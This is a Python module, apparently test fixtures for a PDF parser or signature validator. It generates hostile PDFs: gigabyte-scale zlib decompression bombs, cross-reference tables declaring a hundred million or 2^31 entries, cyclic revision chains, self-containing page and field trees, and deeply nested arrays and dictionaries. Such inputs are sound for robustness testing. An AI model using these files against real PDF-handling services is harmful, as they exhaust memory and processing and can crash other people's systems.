"""PDF files that do harm to whoever reads them: each is small, or as large as may be sent, and made when asked for."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping
from functools import partial

Objects = Mapping[int, bytes]
CATALOGUE = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[3 0 R]/SigFlags 3>>>>"
PAGES = b"<</Type/Pages/Kids[]/Count 0>>"
GIGABYTE = 10**9


def document(objects: Objects, size: int = 0) -> bytes:
    """A file of these objects with a classic table; object 1 is the catalogue."""
    parts, offsets, at = [b"%PDF-1.7\n"], {}, 9
    for number, content in objects.items():
        offsets[number] = at
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, content))
        at += len(parts[-1])
    body, table = b"".join(parts), [b"xref\n0 1\n0000000000 65535 f \n"]
    table += (b"%d 1\n%010d 00000 n \n" % (number, offset) for number, offset in offsets.items())
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return body + b"".join(table) + trailer % (size or max(objects) + 1, at)


def stream(entries: bytes, content: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(content), content)


def deflated(entries: bytes, size: int) -> bytes:
    """A stream that unpacks to so many bytes: one packed piece of zeros, again and again."""
    piece, packing = bytes(10**7), zlib.compressobj(9)
    head = packing.compress(piece) + packing.flush(zlib.Z_FULL_FLUSH)
    again = packing.compress(piece) + packing.flush(zlib.Z_FULL_FLUSH)
    pieces = size // len(piece)
    checksum = (pieces * len(piece) % 65521 << 16 | 1).to_bytes(4, "big")
    last = b"\x03\x00"  # an empty block that says it is the last
    return stream(b"/Filter/FlateDecode" + entries, head + again * (pieces - 1) + last + checksum)


def signed(**signature: bytes) -> Objects:
    """A catalogue with one signature field, whose dictionary has these further entries."""
    more = b"".join(b"/%s %s" % (name.encode(), value) for name, value in signature.items())
    field = b"<</FT/Sig/T(a)/V 4 0 R>>"
    value = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 9 9 9]%s>>" % more
    return {1: CATALOGUE, 2: PAGES, 3: field, 4: value}


def in_an_object_stream() -> bytes:
    """The catalogue stands in a stream of objects that unpacks to a gigabyte."""
    body = b"%PDF-1.7\n"
    at = len(body)
    body += b"5 0 obj\n%s\nendobj\n" % deflated(b"/Type/ObjStm/N 1/First 4", GIGABYTE)
    table = len(body)
    rows = b"".join(
        kind.to_bytes(1, "big") + first.to_bytes(4, "big") + second.to_bytes(1, "big")
        for kind, first, second in ((0, 0, 0), (2, 5, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0), (1, at, 0))
    )
    body += b"6 0 obj\n%s\nendobj\n" % stream(b"/Type/XRef/Size 6/W[1 4 1]/Root 1 0 R", rows)
    return body + b"startxref\n%d\n%%%%EOF\n" % table


def as_the_table(size: int) -> bytes:
    """A stream in place of the table, which unpacks to so many bytes."""
    head = b"%PDF-1.7\n"
    table = deflated(b"/Type/XRef/Size 9/W[1 4 1]/Root 1 0 R", size)
    return head + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(head))


def filtered_again_and_again() -> bytes:
    """A file inside that is packed many times over: each look unpacks another."""
    content = bytes(10**8)
    for _ in range(4):
        content = zlib.compress(content, 9)
    inside = stream(b"/Type/EmbeddedFile/Filter[%s]" % (b"/FlateDecode " * 4), content)
    root = CATALOGUE[:-2] + b"/AF[5 0 R]>>"
    return document({**signed(), 1: root, 5: b"<</Type/Filespec/F(a.json)/EF<</F 6 0 R>>>>", 6: inside})


def declares_a_huge_table() -> bytes:
    """The table says that it has a hundred million entries."""
    body = b"%PDF-1.7\n1 0 obj\n" + CATALOGUE + b"\nendobj\n"
    table = b"xref\n0 100000000\n" + b"0000000000 65535 f \n" * 1000
    return body + table + b"trailer\n<</Size 100000000/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(body)


def counts_to_the_end_of_numbers() -> bytes:
    head = b"%PDF-1.7\n"
    table = stream(b"/Type/XRef/Size 2147483647/Index[0 2147483647]/W[0 0 0]/Root 1 0 R", b"")
    return head + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(head))


def many_revisions() -> bytes:
    """Tables that point at each other in a ring."""
    first = document(signed())
    at = first.rindex(b"xref\n0 1")
    ring = b"xref\n0 0\ntrailer\n<</Size 5/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return first + ring % (len(first), len(first)) if at else first


HOSTILE: dict[str, Callable[[], bytes]] = {
    "a table of a gigabyte": partial(as_the_table, GIGABYTE),
    "a stream of objects of a gigabyte": in_an_object_stream,
    "a table that says it is huge": declares_a_huge_table,
    "a table that counts to the end of numbers": counts_to_the_end_of_numbers,
    "tables in a ring": many_revisions,
    "a file packed many times over": filtered_again_and_again,
    "pages that contain themselves": lambda: document(
        {**signed(), 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1/Parent 2 0 R>>"}
    ),
    "fields that contain themselves": lambda: document(
        {1: CATALOGUE, 2: PAGES, 3: b"<</T(a)/Kids[3 0 R 3 0 R]>>"}
    ),
    "a reference to itself": lambda: document({1: CATALOGUE, 2: PAGES, 3: b"3 0 R"}),
    "lists in lists": lambda: document({1: CATALOGUE, 2: PAGES, 3: b"[" * 10**6 + b"]" * 10**6}),
    "dictionaries in dictionaries": lambda: document({1: b"<</A" * 10**5 + b">>" * 10**5, 2: PAGES}),
    "contents of a signature without end": lambda: document(signed(Contents=b"<" + b"30" * 10**6 + b">")),
    "fifty megabytes of nothing": lambda: b"%PDF-1.7\n" + bytes(50 * 1024 * 1024),
}
